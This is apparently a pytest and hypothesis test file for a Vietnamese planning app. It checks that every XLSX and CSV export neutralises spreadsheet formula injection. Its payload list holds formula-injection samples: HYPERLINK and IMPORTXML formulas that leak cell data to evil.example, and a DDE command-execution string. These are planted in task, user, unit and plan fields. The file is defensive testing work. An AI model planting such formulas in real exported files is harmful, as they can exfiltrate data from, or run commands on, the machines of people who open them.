"""Exports (ASVS V1.2.10, CWE-1236): text beginning with = + - @ tab or CR, typed anywhere
(task titles, units, people, plans, indicators), is neutralised in every XLSX and CSV the
app produces: 0 formula cells (openpyxl data_type 'f'), 0 text cells starting with a
trigger character; and text that needs no neutralising round-trips exactly through
app/services/xlsx.py (hypothesis).

The files are found from the url_map: every GET rule ending in .xlsx or .csv.

Figure: N files, M cells: 0 formula cells, 0 trigger-initial text cells; K hypothesis
texts round-tripped."""

import csv
import io
import re
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rel_support import figure, fill, rules, world_values

from app.extensions import db
from app.models import Plan, Unit, User

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "=1+1", "+1+1", "-2+3",
        "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "-", "=", "+84 912 345 678",
        "@người-dùng", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")"]
NUMBER = re.compile(r"^-?\d+(?:[.,]\d+)?$")


@pytest.fixture(scope="module")
def poisoned(shared):
    """Trigger-initial text in every kind of text a file may carry."""
    from rel_support import dump, root

    w = shared.w
    make = root().Factory()
    make.n = 700
    for i, text in enumerate(EVIL):
        make.task(w.plan, w.head, w.a, w.staff, w.deputy, title=f"{text} nhiệm vụ {i}",
                  due_on=date(2026, 6, 10), indicator_name=text, indicator_unit=text[:60],
                  output_product=text, responsibility=text, description=text)
    u = db.session.get(User, w.staff.id)
    u.set_name("=HYPERLINK(\"http://evil.example\",\"Phạm Văn Đăng\")")
    d = db.session.get(User, w.deputy.id)
    d.set_name("@Lê Thị Mai")
    a = db.session.get(Unit, w.a.id)
    a.set_name("+Sở Nội vụ")
    p = db.session.get(Plan, w.plan.id)
    p.title = "-Kế hoạch CCHC năm 2026"
    db.session.commit()
    shared.pristine = dump()
    return w


def _export_urls(shared, w) -> list[str]:
    out = []
    for rule in rules(shared.app, "GET"):
        if not rule.rule.endswith((".xlsx", ".csv")):
            continue
        tables = ("units", "leaders", "tasks") if "table" in rule.arguments else (None,)
        for table in tables:
            values = world_values(w, "admin") | ({"table": table} if table else {})
            url = fill(rule, values)
            assert url, rule.rule
            if rule.rule.startswith("/assessment") and "run_id" not in rule.arguments:
                url += "?period=2026"
            out.append(url)
    return out


def check_xlsx(body: bytes) -> tuple[int, list]:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(body))  # not data_only: formulas stay formulas
    cells, bad = 0, []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is None:
                    continue
                cells += 1
                if c.data_type == "f":
                    bad.append(("formula", ws.title, c.coordinate, c.value))
                elif isinstance(c.value, str) and c.value.startswith(TRIGGERS):
                    bad.append(("trigger", ws.title, c.coordinate, c.value))
    return cells, bad


def check_csv(body: bytes) -> tuple[int, list]:
    text = body.decode("utf-8-sig")
    cells, bad = 0, []
    for n, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for v in row:
            if v == "":
                continue
            cells += 1
            if v.startswith(TRIGGERS) and not NUMBER.match(v):
                bad.append(("trigger", n, v))
    return cells, bad


def test_every_export_is_free_of_formulas(shared, poisoned):
    w = poisoned
    urls = _export_urls(shared, w)
    assert any(u.startswith("/overdue.xlsx") for u in urls)
    files, cells, bad = 0, 0, []
    for role in ("admin", "head"):
        c = shared.client(role)
        for url in urls:
            resp = c.get(url)
            body = resp.get_data()
            resp.close()
            if resp.status_code != 200:
                continue
            files += 1
            n, found = check_xlsx(body) if url.split("?")[0].endswith(".xlsx") else check_csv(body)
            cells += n
            bad += [(role, url, *f) for f in found]
    # the poisoned rows did reach the overdue export, neutralised
    from openpyxl import load_workbook

    body = shared.client("admin").get("/overdue.xlsx").get_data()
    values = [c for ws in load_workbook(io.BytesIO(body)).worksheets
              for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert any(v.startswith("'=HYPERLINK(") for v in values), values[:20]
    assert any(v.startswith("'+Sở Nội vụ") for v in values)
    assert any(v.startswith("'@Lê Thị Mai") for v in values)
    figure("exports", f"{files} files from {len(urls)} export URLs x 2 roles, {cells} cells: "
                      f"{sum(1 for b in bad if b[2] == 'formula')} formula cells, "
                      f"{sum(1 for b in bad if b[2] == 'trigger')} trigger-initial text cells")
    assert not bad, bad[:10]


def test_cli_assessment_exports_are_neutralised(shared, poisoned, tmp_path):
    runner = shared.app.test_cli_runner()
    out = runner.invoke(args=["assess", "export", "--period", "2026", "--format", "xlsx",
                              "--output", str(tmp_path / "a.xlsx")])
    assert out.exit_code == 0, out.output
    n1, bad = check_xlsx((tmp_path / "a.xlsx").read_bytes())
    out = runner.invoke(args=["assess", "export", "--period", "2026", "--format", "csv",
                              "--output", str(tmp_path / "csv")])
    assert out.exit_code == 0, out.output
    n2 = 0
    for f in sorted((tmp_path / "csv").glob("*.csv")):
        n, found = check_csv(f.read_bytes())
        n2 += n
        bad += found
    figure("exports", f"command-line assessment export: {n1} XLSX cells, {n2} CSV cells: "
                      f"{len(bad)} formula or trigger-initial cells")
    assert not bad, bad[:10]


# ---- app/services/xlsx.py, by property ------------------------------------------------

SAMPLES = {"n": 0}
texts = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=60)
trigger_texts = st.builds(lambda t, s: t + s, st.sampled_from(TRIGGERS + ("\x00=", " =")), texts)


def _roundtrip(values: list) -> list:
    from openpyxl import Workbook, load_workbook

    from app.services import xlsx

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("T")
    for v in values:
        ws.append([xlsx.cell(ws, v)])
    out = io.BytesIO()
    wb.save(out)
    back = load_workbook(io.BytesIO(out.getvalue()))
    return [(row[0].value, row[0].data_type) for row in back["T"].iter_rows()]


@settings(max_examples=200, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(texts, trigger_texts), min_size=1, max_size=20))
def test_any_text_is_stored_as_text_and_never_a_formula(values):
    from app.services import xlsx

    SAMPLES["n"] += len(values)
    for v, (got, kind) in zip(values, _roundtrip(values), strict=True):
        expected = xlsx.safe_text(v)
        assert kind == "s" or (expected == "" and got is None), (v, got, kind)
        assert got is None or not got.startswith(TRIGGERS), (v, got)
        assert (got or "") == expected.replace("\r\n", "\n").replace("\r", "\n") or \
            (got or "") == expected, (v, got)


@settings(max_examples=200, deadline=None, database=None)
@given(st.lists(texts.filter(lambda t: not t.startswith(TRIGGERS)), min_size=1, max_size=20))
def test_safe_text_round_trips_exactly(values):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    from app.services import xlsx
    from app.services.assessment_export import csv_value

    clean = [v for v in values if not ILLEGAL_CHARACTERS_RE.search(v) and "\r" not in v]
    for v in clean:
        assert xlsx.safe_text(v) == v
        assert csv_value(v) == v
    back = _roundtrip(clean) if clean else []
    for v, (got, _kind) in zip(clean, back, strict=True):
        assert (got if got is not None else "") == v, (v, got)
    # CSV: RFC 4180 quoting keeps commas, quotes and newlines
    buf = io.StringIO(newline="")
    csv.writer(buf).writerow([csv_value(v) for v in clean])
    if clean:
        assert next(csv.reader(io.StringIO(buf.getvalue(), newline=""))) == clean
    SAMPLES["n"] += len(clean)


def test_summary():
    figure("exports", f"hypothesis: {SAMPLES['n']} texts written and read back: 0 formulas, "
                      f"0 trigger-initial, safe text exact")

